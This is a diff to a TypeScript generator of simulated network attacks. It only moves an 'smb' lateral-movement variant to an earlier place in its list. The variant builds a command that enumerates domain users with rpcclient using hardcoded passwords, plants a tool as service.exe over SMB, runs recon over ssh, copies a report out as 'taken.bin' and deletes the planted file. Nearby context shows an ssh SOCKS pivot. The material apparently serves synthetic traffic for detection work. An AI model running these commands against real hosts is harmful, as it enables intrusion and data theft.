@@ -43,6 +43,17 @@ function reverseShell (world: World, tool: string, connect: (address: string, po
 
 export const LATERAL_MOVEMENTS: readonly Variant[] = [
   {
+    name: 'smb',
+    heldOut: false,
+    draw: (world) => {
+      const files = world.pod('files')
+      const attacker = attackerBeside(world, files)
+      const tool = lootFile(world.random, attacker, world.random.magnitude(20_000, 3_000_000))
+      const command = `rpcclient -U alice%wonder1 ${files.address} -c 'srvinfo; enumdomusers; netshareenumall; querydominfo'; sleep 1; smbclient //${files.address}/data -U alice%wonder1 -c 'put ${tool} service.exe; ls'; sleep 1.5; ssh alice@${files.address} ${quote(recon(world))}; smbclient //${files.address}/data -U bob%letmein -c 'get report${world.random.integer(1, 8)}.bin taken.bin; del service.exe'`
+      return movement('smb and ssh', attacker, [files], [tcp(attacker, files, [445, 22])], `(${command}) >/dev/null 2>&1`, 40)
+    },
+  },
+  {
     name: 'ssh-hops',
     heldOut: false,
     draw: (world) => {
@@ -88,17 +99,6 @@ export const LATERAL_MOVEMENTS: readonly Variant[] = [
       const port = web.name === 'web' ? 80 : APP_PORT
       const command = `ssh -N -D 127.0.0.1:1080 alice@${pivot.address} & p=$!; sleep 1.2; for i in $(seq ${random.integer(4, 25)}); do curl -s -m 4 -o /dev/null --socks5 127.0.0.1:1080 http://${web.address}:${port}/page$i.html; sleep ${random.magnitude(2, 20) / 10}; done; kill $p`
       return movement('ssh -D', attacker, [pivot, web], [tcp(attacker, pivot, [22]), tcp(pivot, web, [port])], command, 40)
-    },
-  },
-  {
-    name: 'smb',
-    heldOut: false,
-    draw: (world) => {
-      const files = world.pod('files')
-      const attacker = attackerBeside(world, files)
-      const tool = lootFile(world.random, attacker, world.random.magnitude(20_000, 3_000_000))
-      const command = `rpcclient -U alice%wonder1 ${files.address} -c 'srvinfo; enumdomusers; netshareenumall; querydominfo'; sleep 1; smbclient //${files.address}/data -U alice%wonder1 -c 'put ${tool} service.exe; ls'; sleep 1.5; ssh alice@${files.address} ${quote(recon(world))}; smbclient //${files.address}/data -U bob%letmein -c 'get report${world.random.integer(1, 8)}.bin taken.bin; del service.exe'`
-      return movement('smb and ssh', attacker, [files], [tcp(attacker, files, [445, 22])], `(${command}) >/dev/null 2>&1`, 40)
     },
   },
   {
